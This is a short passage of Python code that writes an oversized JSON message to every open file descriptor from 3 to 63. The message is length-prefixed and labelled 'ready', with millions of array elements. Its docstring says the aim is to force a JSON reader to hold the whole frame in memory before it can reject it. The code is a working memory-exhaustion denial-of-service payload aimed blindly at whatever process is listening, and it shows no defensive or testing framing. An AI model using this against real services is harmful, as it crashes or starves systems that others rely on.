"""One frame with very many values, which a reader of JSON holds in memory before anyone can refuse them."""

for fd in range(3, 64):
    for values in (b"[0]," * 8_000_000, b'{"a":0},' * 4_000_000):
        data = b'{"op":"ready","x":[' + values + b"0]}"
        if attempt(lambda: os.write(fd, len(data).to_bytes(4, "big"))):
            while data and (sent := attempt(lambda: os.write(fd, data))):
                data = data[sent:]
